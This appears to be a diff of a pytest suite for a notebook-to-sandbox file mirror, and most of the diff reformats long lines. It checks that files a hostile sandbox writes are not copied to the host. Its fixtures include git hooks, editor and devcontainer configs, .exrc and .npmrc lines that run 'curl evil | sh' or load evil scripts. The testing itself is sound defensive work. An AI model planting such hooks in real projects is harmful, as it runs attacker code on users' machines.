@@ -123,7 +123,9 @@ def test_absolute_reported_path_is_not_written(folder: Path, sandbox: HostileSan
     assert "it is absolute" in result.notices()
 
 
-def test_reported_path_with_nul_or_control_characters_is_refused_and_the_rest_arrives(folder: Path, sandbox: HostileSandbox, config) -> None:  # type: ignore[no-untyped-def]
+def test_reported_path_with_nul_or_control_characters_is_refused_and_the_rest_arrives(
+    folder: Path, sandbox: HostileSandbox, config
+) -> None:  # type: ignore[no-untyped-def]
     ok = sandbox.put("fine.txt", b"fine")
     with pytest.raises(ProtocolError, match="not a valid path"):  # a NUL never gets past the report's parser
         report({"a\x00b.txt": [1, 1], "fine.txt": ok})
@@ -140,7 +142,9 @@ def test_reported_path_into_git_hooks_is_not_written(folder: Path, sandbox: Host
     hook = sandbox.put(".git/hooks/pre-commit", b"#!/bin/sh\ncurl evil | sh\n", 0o755)
     alias = sandbox.put(".GIT/config", b"[core]\n\tfsmonitor = evil\n")
     sandbox.put(".git/config", b"[core]\n\tfsmonitor = evil\n")
-    pull(mirror_of(folder, sandbox, config), report({".git/hooks/pre-commit": hook, "./.git//config": alias, ".GIT/config": alias}))
+    pull(
+        mirror_of(folder, sandbox, config), report({".git/hooks/pre-commit": hook, "./.git//config": alias, ".GIT/config": alias})
+    )
     assert not (folder / ".git" / "hooks" / "pre-commit").exists()
     assert not (folder / ".git" / "config").exists() and not (folder / ".GIT").exists()
 
@@ -148,7 +152,10 @@ def test_reported_path_into_git_hooks_is_not_written(folder: Path, sandbox: Host
 def test_reported_editor_settings_that_could_run_code_here_are_not_written(folder: Path, sandbox: HostileSandbox, config) -> None:  # type: ignore[no-untyped-def]
     settings = sandbox.put(".vscode/settings.json", b'{"python.defaultInterpreterPath": "./evil.sh"}')
     container = sandbox.put(".devcontainer/devcontainer.json", b'{"initializeCommand": "curl evil | sh"}')
-    result = pull(mirror_of(folder, sandbox, config), report({".vscode/settings.json": settings, ".devcontainer/devcontainer.json": container}))
+    result = pull(
+        mirror_of(folder, sandbox, config),
+        report({".vscode/settings.json": settings, ".devcontainer/devcontainer.json": container}),
+    )
     assert not (folder / ".vscode").exists() and not (folder / ".devcontainer").exists()
     assert "it could run code here: .devcontainer is a hidden name" in result.notices()
 
@@ -159,7 +166,9 @@ def test_reported_path_under_an_excluded_folder_is_not_written(folder: Path, san
     a = sandbox.put("private/deep/x.txt", b"x")
     b = sandbox.put("scratch/y.txt", b"y")
     c = sandbox.put("node_modules/pkg/index.js", b"z")
-    pull(mirror_of(folder, sandbox, config), report({"private/deep/x.txt": a, "scratch/y.txt": b, "node_modules/pkg/index.js": c}))
+    pull(
+        mirror_of(folder, sandbox, config), report({"private/deep/x.txt": a, "scratch/y.txt": b, "node_modules/pkg/index.js": c})
+    )
     assert not (folder / "private").exists() and not (folder / "scratch").exists() and not (folder / "node_modules").exists()
 
 
@@ -175,7 +184,9 @@ def test_local_symlinked_folder_is_not_written_through(folder: Path, sandbox: Ho
     assert "Not copied from the sandbox: data/bashrc: data here is a symlink" in result.notices()
 
 
-def test_without_dir_fd_support_a_symlinked_folder_is_still_not_written_through(folder: Path, sandbox: HostileSandbox, config, tmp_path: Path, monkeypatch) -> None:  # type: ignore[no-untyped-def]
+def test_without_dir_fd_support_a_symlinked_folder_is_still_not_written_through(
+    folder: Path, sandbox: HostileSandbox, config, tmp_path: Path, monkeypatch
+) -> None:  # type: ignore[no-untyped-def]
     import daytona_kernel.mirror.localfs as localfs
 
     monkeypatch.setattr(localfs, "_DIR_FD", False)  # as on a platform without openat()
@@ -188,7 +199,9 @@ def test_without_dir_fd_support_a_symlinked_folder_is_still_not_written_through(
     assert "data here is a symlink or a file" in result.notices()
 
 
-def test_sandbox_symlink_is_neither_followed_nor_created_here(folder: Path, sandbox: HostileSandbox, config, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
+def test_sandbox_symlink_is_neither_followed_nor_created_here(
+    folder: Path, sandbox: HostileSandbox, config, tmp_path: Path
+) -> None:  # type: ignore[no-untyped-def]
     secret = tmp_path / "host-secret.txt"
     secret.write_text("host secret")
     (Path(sandbox.workdir) / "link").symlink_to(secret)
@@ -210,7 +223,13 @@ def test_malformed_change_report_is_refused_before_the_mirror(folder: Path, sand
     """The report is typed once, in protocol.py: a malformed one never reaches the mirror (the cell gets the error)."""
     mirror = mirror_of(folder, sandbox, config)
     ok = sandbox.put("ok.txt", b"ok")
-    bad: list[Any] = ["files", {"changed": "x"}, {"changed": {"a": "big"}}, {"changed": {"b": [1]}}, {"changed": {}, "deleted": "y"}]
+    bad: list[Any] = [
+        "files",
+        {"changed": "x"},
+        {"changed": {"a": "big"}},
+        {"changed": {"b": [1]}},
+        {"changed": {}, "deleted": "y"},
+    ]
     for changes in bad + [{"changed": {"ok.txt": ok, "bad": [True, None]}}]:
         with pytest.raises(ProtocolError):
             file_changes(changes)
@@ -274,7 +293,9 @@ SECRET_FILES = (
 )
 
 
-def test_secret_files_are_not_uploaded_and_one_notice_says_how_to_include_one(folder: Path, sandbox: HostileSandbox, config) -> None:  # type: ignore[no-untyped-def]
+def test_secret_files_are_not_uploaded_and_one_notice_says_how_to_include_one(
+    folder: Path, sandbox: HostileSandbox, config
+) -> None:  # type: ignore[no-untyped-def]
     for rel in SECRET_FILES + ("analysis.py", ".env.example"):
         (folder / rel).parent.mkdir(parents=True, exist_ok=True)
         (folder / rel).write_text("TOKEN=hunter2\n")
@@ -455,7 +476,9 @@ def test_git_ignore_files_from_outside_the_project_are_honoured_as_git_does(tmp_
         assert {n for n in names if rules.check(n, False) is None} == expected - {"seed.txt"}, f"turn {turn}"
 
 
-def test_folder_holding_the_home_folder_is_not_mirrored_automatically(tmp_path: Path, sandbox: HostileSandbox, config, monkeypatch) -> None:  # type: ignore[no-untyped-def]
+def test_folder_holding_the_home_folder_is_not_mirrored_automatically(
+    tmp_path: Path, sandbox: HostileSandbox, config, monkeypatch
+) -> None:  # type: ignore[no-untyped-def]
     home = tmp_path / "home" / "me"
     home.mkdir(parents=True)
     monkeypatch.setenv("HOME", str(home))
@@ -554,7 +577,9 @@ def test_an_unreadable_sandbox_folder_is_not_reported_as_deleted(tmp_path: Path,
     assert watch.changes() is None
 
 
-def test_an_unreadable_local_folder_is_never_planned_as_deleted(folder: Path, sandbox: HostileSandbox, config, monkeypatch) -> None:  # type: ignore[no-untyped-def]
+def test_an_unreadable_local_folder_is_never_planned_as_deleted(
+    folder: Path, sandbox: HostileSandbox, config, monkeypatch
+) -> None:  # type: ignore[no-untyped-def]
     config.sync_deletes = True
     (folder / "locked").mkdir()
     (folder / "locked" / "data.csv").write_text("x")
@@ -608,7 +633,9 @@ def test_a_vanished_file_costs_only_that_file(folder: Path, sandbox: HostileSand
     assert "Not copied from the sandbox: gone.txt" in result.notices()
 
 
-def test_a_download_error_for_one_file_is_named_and_retried_after_the_next_cell(folder: Path, sandbox: HostileSandbox, config) -> None:  # type: ignore[no-untyped-def]
+def test_a_download_error_for_one_file_is_named_and_retried_after_the_next_cell(
+    folder: Path, sandbox: HostileSandbox, config
+) -> None:  # type: ignore[no-untyped-def]
     from daytona_kernel.backends.base import FileError
 
     mirror = mirror_of(folder, sandbox, config)
@@ -634,7 +661,9 @@ def test_a_whole_failed_download_loses_nothing(folder: Path, sandbox: HostileSan
     assert pull(mirror, changes).down == ["a.txt"]
 
 
-def test_a_full_disk_names_the_file_and_leaves_no_partial_file(folder: Path, sandbox: HostileSandbox, config, monkeypatch) -> None:  # type: ignore[no-untyped-def]
+def test_a_full_disk_names_the_file_and_leaves_no_partial_file(
+    folder: Path, sandbox: HostileSandbox, config, monkeypatch
+) -> None:  # type: ignore[no-untyped-def]
     real_write = os.write
 
     def write(fd: int, data: Any) -> int:
@@ -765,7 +794,9 @@ def test_secret_files_stay_on_this_machine(kernel_name: str, tmp_path: Path) -> 
     with Kernel(kernel_name, cwd=str(tmp_path)) as k:
         run = k.execute(f"import os\nsorted(os.path.exists(p) for p in {secret!r}), os.path.exists('notes.txt')")
         assert run.of_type("execute_result")[0]["data"]["text/plain"] == f"({[False] * len(secret)}, True)"
-        assert "look like secrets: .ENV.local, .env, .huggingface/, CERT.PEM, certs/server.pem, id_rsa, kaggle.json" in run.text("stderr")
+        assert "look like secrets: .ENV.local, .env, .huggingface/, CERT.PEM, certs/server.pem, id_rsa, kaggle.json" in run.text(
+            "stderr"
+        )
         assert "look like secrets" not in k.execute("pass").text("stderr")
 
 
@@ -876,13 +907,15 @@ CODE_DOWN = {
     ".claude/settings.json": b'{"hooks": {}}',
     ".mcp.json": b'{"mcpServers": {}}',
     "sub/.exrc": b"!curl evil | sh\n",
-    ".dir-locals.el": b"((nil . ((eval . (shell-command \"curl evil\")))))\n",
+    ".dir-locals.el": b'((nil . ((eval . (shell-command "curl evil")))))\n',
     ".npmrc": b"node-options=--require ./evil.js\n",
 }
 WIDENING_GITIGNORE = b"!.venv/\n!.venv/**\n!*.pyc\n!__pycache__/\n!.env\n!*\n"
 
 
-def test_code_the_sandbox_writes_never_comes_down_whatever_its_gitignore_says(folder: Path, sandbox: HostileSandbox, config) -> None:  # type: ignore[no-untyped-def]
+def test_code_the_sandbox_writes_never_comes_down_whatever_its_gitignore_says(
+    folder: Path, sandbox: HostileSandbox, config
+) -> None:  # type: ignore[no-untyped-def]
     user_project(folder)
     config.sync_include = [".env", ".npmrc"]  # even a secret the user lets through both ways: not this one
     mirror = mirror_of(folder, sandbox, config)
@@ -893,11 +926,19 @@ def test_code_the_sandbox_writes_never_comes_down_whatever_its_gitignore_says(fo
     changes["results/table.csv"] = sandbox.put("results/table.csv", b"1,2\n")
     result = pull(mirror, report(changes))
     for rel in CODE_DOWN:
-        assert not any(p.name == rel.rsplit("/", 1)[-1] and p.is_file() and p.read_bytes() == CODE_DOWN[rel] for p in folder.rglob("*")), rel
+        assert not any(
+            p.name == rel.rsplit("/", 1)[-1] and p.is_file() and p.read_bytes() == CODE_DOWN[rel] for p in folder.rglob("*")
+        ), rel
     assert (folder / "results" / "table.csv").read_bytes() == b"1,2\n" and (folder / "refs" / "paper.bib").exists()
     assert sorted(result.down) == ["refs/paper.bib", "results/table.csv"]
     notices = result.notices()
-    for rel in ("env/lib/python3.12/site-packages/zz.pth", "evil/config", ".devcontainer.json", "env/bin/activate", "USERCUSTOMIZE.PY"):
+    for rel in (
+        "env/lib/python3.12/site-packages/zz.pth",
+        "evil/config",
+        ".devcontainer.json",
+        "env/bin/activate",
+        "USERCUSTOMIZE.PY",
+    ):
         assert f"Refused a path the sandbox reported: {rel}: it could run code here" in notices, rel
     assert set(mirror.handover().acked) == {".gitignore", *changes}  # decided: not reported again after every cell
 
@@ -948,7 +989,9 @@ def test_modes_from_the_sandbox_only_narrow(folder: Path, sandbox: HostileSandbo
     assert stat.S_IMODE((folder / "shared.txt").stat().st_mode) == 0o400
 
 
-def test_a_file_that_grows_after_its_report_costs_no_memory_and_is_not_written(folder: Path, sandbox: HostileSandbox, config) -> None:  # type: ignore[no-untyped-def]
+def test_a_file_that_grows_after_its_report_costs_no_memory_and_is_not_written(
+    folder: Path, sandbox: HostileSandbox, config
+) -> None:  # type: ignore[no-untyped-def]
     import tracemalloc
 
     reported = sandbox.put("small.bin", b"tiny")
@@ -1146,7 +1189,9 @@ def git_status_runs_the_sandbox_command(folder: Path, mark: Path) -> bool:
 
 
 @pytest.mark.parametrize("where", ["", "sub/"], ids=["notebook-folder", "subfolder"])
-def test_a_repository_assembled_over_two_cells_is_never_completed_here(folder: Path, sandbox: HostileSandbox, config, tmp_path: Path, where: str) -> None:  # type: ignore[no-untyped-def]
+def test_a_repository_assembled_over_two_cells_is_never_completed_here(
+    folder: Path, sandbox: HostileSandbox, config, tmp_path: Path, where: str
+) -> None:  # type: ignore[no-untyped-def]
     """Issue 31 item 2: cell 1 writes objects/, refs/ and a config; cell 2 writes HEAD."""
     mark = tmp_path / "fsmonitor-ran"
     mirror = mirror_of(folder, sandbox, config)
@@ -1157,7 +1202,9 @@ def test_a_repository_assembled_over_two_cells_is_never_completed_here(folder: P
     assert not git_status_runs_the_sandbox_command(folder / where, mark)
 
 
-def test_a_repository_started_with_its_head_gets_nothing_more(folder: Path, sandbox: HostileSandbox, config, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
+def test_a_repository_started_with_its_head_gets_nothing_more(
+    folder: Path, sandbox: HostileSandbox, config, tmp_path: Path
+) -> None:  # type: ignore[no-untyped-def]
     """Item 2, the other order, over three cells: HEAD (alone it is data), then refs/, then objects/ and config."""
     mark = tmp_path / "fsmonitor-ran"
     mirror = mirror_of(folder, sandbox, config)
@@ -1170,7 +1217,9 @@ def test_a_repository_started_with_its_head_gets_nothing_more(folder: Path, sand
 
 
 @pytest.mark.parametrize("dir_fd", [True, False], ids=["dir_fd", "lstat"])
-def test_a_case_split_repository_is_one_repository(folder: Path, sandbox: HostileSandbox, config, tmp_path: Path, monkeypatch, dir_fd: bool) -> None:  # type: ignore[no-untyped-def]
+def test_a_case_split_repository_is_one_repository(
+    folder: Path, sandbox: HostileSandbox, config, tmp_path: Path, monkeypatch, dir_fd: bool
+) -> None:  # type: ignore[no-untyped-def]
     """Item 3: Evil/HEAD beside evil/objects/ is one folder on a case-insensitive disk (macOS, Windows); the
     folders here are listed with and without openat() (``LocalFolder.listing``)."""
     import daytona_kernel.mirror.localfs as localfs
@@ -1179,7 +1228,15 @@ def test_a_case_split_repository_is_one_repository(folder: Path, sandbox: Hostil
     mark = tmp_path / "fsmonitor-ran"
     mirror = mirror_of(folder, sandbox, config)
     pull(mirror, report({f"evil/{rel}": sandbox.put(f"evil/{rel}", content) for rel, content in git_parts(mark).items()}))
-    second = pull(mirror, report({"Evil/HEAD": sandbox.put("Evil/HEAD", b"ref: refs/heads/main\n"), "EVIL./ORIG_HEAD": sandbox.put("EVIL./ORIG_HEAD", b"x")}))
+    second = pull(
+        mirror,
+        report(
+            {
+                "Evil/HEAD": sandbox.put("Evil/HEAD", b"ref: refs/heads/main\n"),
+                "EVIL./ORIG_HEAD": sandbox.put("EVIL./ORIG_HEAD", b"x"),
+            }
+        ),
+    )
     assert second.down == [] and not (folder / "Evil").exists() and not (folder / "EVIL.").exists(), second.notices()
 
 
@@ -1253,7 +1310,13 @@ def test_a_sandbox_gitignore_cannot_re_include_what_the_defaults_exclude(folder:
     assert pull(mirror, report({".gitignore": sandbox.put(".gitignore", gitignore)})).down == [".gitignore"]
     changes = {
         rel: sandbox.put(rel, b"x")
-        for rel in ("node_modules/.bin/jupyter", "sub/node_modules/x/index.js", ".ipynb_checkpoints/nb-checkpoint.ipynb", "scratch/a.csv", "ok.csv")
+        for rel in (
+            "node_modules/.bin/jupyter",
+            "sub/node_modules/x/index.js",
+            ".ipynb_checkpoints/nb-checkpoint.ipynb",
+            "scratch/a.csv",
+            "ok.csv",
+        )
     }
     assert pull(mirror, report(changes)).down == ["ok.csv"]
     (folder / "node_modules").mkdir()
@@ -1261,12 +1324,17 @@ def test_a_sandbox_gitignore_cannot_re_include_what_the_defaults_exclude(folder:
     assert "node_modules/big.js" not in mirror.plan_up().todo
 
 
-def test_on_the_local_backend_a_big_file_comes_down_only_when_it_can_be_shared(folder: Path, sandbox: HostileSandbox, config, monkeypatch) -> None:  # type: ignore[no-untyped-def]
+def test_on_the_local_backend_a_big_file_comes_down_only_when_it_can_be_shared(
+    folder: Path, sandbox: HostileSandbox, config, monkeypatch
+) -> None:  # type: ignore[no-untyped-def]
     """Item 6: over sync_max_file_mb a file is a hard link or a reflink of the sandbox's, or it stays there with
     the notice Daytona gives; never a copy (this disk, ext4, cannot clone: a link is the only way to share)."""
     config.sync_max_file_mb = 0.001  # 1 KB
     linked = pull(mirror_of(folder, sandbox, config), report({"linked.bin": sandbox.put("linked.bin", b"x" * 4000)}))
-    assert linked.down == ["linked.bin"] and (folder / "linked.bin").stat().st_ino == (Path(sandbox.workdir) / "linked.bin").stat().st_ino
+    assert (
+        linked.down == ["linked.bin"]
+        and (folder / "linked.bin").stat().st_ino == (Path(sandbox.workdir) / "linked.bin").stat().st_ino
+    )
 
     def no_link(*args: Any, **kw: Any) -> None:
         raise OSError(errno.EXDEV, "Invalid cross-device link")
@@ -1277,9 +1345,16 @@ def test_on_the_local_backend_a_big_file_comes_down_only_when_it_can_be_shared(f
     assert "Not synced: big.bin: 3.9 KB is over sync_max_file_mb=0.001" in result.notices()
 
 
-def test_a_connection_file_and_jupyterlab_s_store_never_go_up_and_jupyter_settings_are_not_a_secret(folder: Path, sandbox: HostileSandbox, config) -> None:  # type: ignore[no-untyped-def]
+def test_a_connection_file_and_jupyterlab_s_store_never_go_up_and_jupyter_settings_are_not_a_secret(
+    folder: Path, sandbox: HostileSandbox, config
+) -> None:  # type: ignore[no-untyped-def]
     """Issue 35: jupyter_client's kernel-<id>.json holds the HMAC key; JupyterLab's collaboration store is its own."""
-    names = ("kernel-3f1c2b9e-1d2a-4c1b-9a55-0c2d1e3f4a5b.json", "sub/kernel-12345.json", ".jupyter_ystore.db", ".jupyter_ystore.db-journal")
+    names = (
+        "kernel-3f1c2b9e-1d2a-4c1b-9a55-0c2d1e3f4a5b.json",
+        "sub/kernel-12345.json",
+        ".jupyter_ystore.db",
+        ".jupyter_ystore.db-journal",
+    )
     for rel in (*names, ".jupyter/lab/workspaces/default.jupyterlab-workspace", "notes.txt"):
         (folder / rel).parent.mkdir(parents=True, exist_ok=True)
         (folder / rel).write_text('{"key": "a0b1c2", "signature_scheme": "hmac-sha256"}')
@@ -1299,7 +1374,16 @@ TWO_CELLS = (  # item 2 end to end: cell 1 writes all of a repository but HEAD, 
     "for where in ('', 'sub/'):\n    open(where + 'HEAD', 'w').write('ref: refs/heads/main\\n')\n"
     "for rel in OTHERS:\n    os.makedirs(os.path.dirname(rel) or '.', exist_ok=True)\n    open(rel, 'w').write('x')\n",
 )
-OTHERS = [".git./hooks/pre-commit", "GIT~1/config", "Sitecustomize.PY ", ".pdbrc", ".roo/mcp.json", "bunfig.toml", "libx.so.1", "AGENTS.md"]
+OTHERS = [
+    ".git./hooks/pre-commit",
+    "GIT~1/config",
+    "Sitecustomize.PY ",
+    ".pdbrc",
+    ".roo/mcp.json",
+    "bunfig.toml",
+    "libx.so.1",
+    "AGENTS.md",
+]
 
 
 def test_a_repository_assembled_over_two_cells_never_runs_git_s_config_here(kernel_name: str, tmp_path: Path) -> None:
@@ -1313,7 +1397,9 @@ def test_a_repository_assembled_over_two_cells_never_runs_git_s_config_here(kern
         (project / name).parent.mkdir(parents=True, exist_ok=True)
         (project / name).write_text('{"key": "a0b1c2d3", "signature_scheme": "hmac-sha256"}')
     with Kernel(kernel_name, cwd=str(project)) as k:
-        first = k.execute(f"PARTS = {parts!r}\n" + TWO_CELLS[0] + "sorted(p for p in os.listdir() if 'kernel' in p or 'jupyter' in p)")
+        first = k.execute(
+            f"PARTS = {parts!r}\n" + TWO_CELLS[0] + "sorted(p for p in os.listdir() if 'kernel' in p or 'jupyter' in p)"
+        )
         assert first.status == "ok", first.errors
         assert first.of_type("execute_result")[0]["data"]["text/plain"] == "[]"  # nothing of them went up
         assert "look like secrets" not in first.text("stderr") and "could not read" not in first.text("stderr")
@@ -1329,7 +1415,9 @@ def test_a_repository_assembled_over_two_cells_never_runs_git_s_config_here(kern
     assert not git_status_runs_the_sandbox_command(project, mark)
 
 
-def test_a_big_symlink_in_the_local_sandbox_is_neither_followed_nor_linked_here(folder: Path, sandbox: HostileSandbox, config, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
+def test_a_big_symlink_in_the_local_sandbox_is_neither_followed_nor_linked_here(
+    folder: Path, sandbox: HostileSandbox, config, tmp_path: Path
+) -> None:  # type: ignore[no-untyped-def]
     """A file over the cap is shared, not downloaded: sharing must not follow the sandbox's symlink (to a file
     of this machine) nor hard-link the symlink itself into the notebook folder."""
     config.sync_max_file_mb = 0.001  # 1 KB
@@ -1365,7 +1453,9 @@ def test_the_folders_here_are_keyed_once_however_many_siblings_a_report_names(fo
     assert calls < 3 * 300, calls
 
 
-def test_a_local_deletion_never_removes_a_newer_copy_the_sandbox_could_not_send(folder: Path, sandbox: HostileSandbox, config) -> None:  # type: ignore[no-untyped-def]
+def test_a_local_deletion_never_removes_a_newer_copy_the_sandbox_could_not_send(
+    folder: Path, sandbox: HostileSandbox, config
+) -> None:  # type: ignore[no-untyped-def]
     """Deletions pass both ways by default, but a file deleted here whose newer sandbox copy failed to come down
     (it waits for %sync) is not deleted there: that copy would be lost."""
     from daytona_kernel.backends.base import FileError
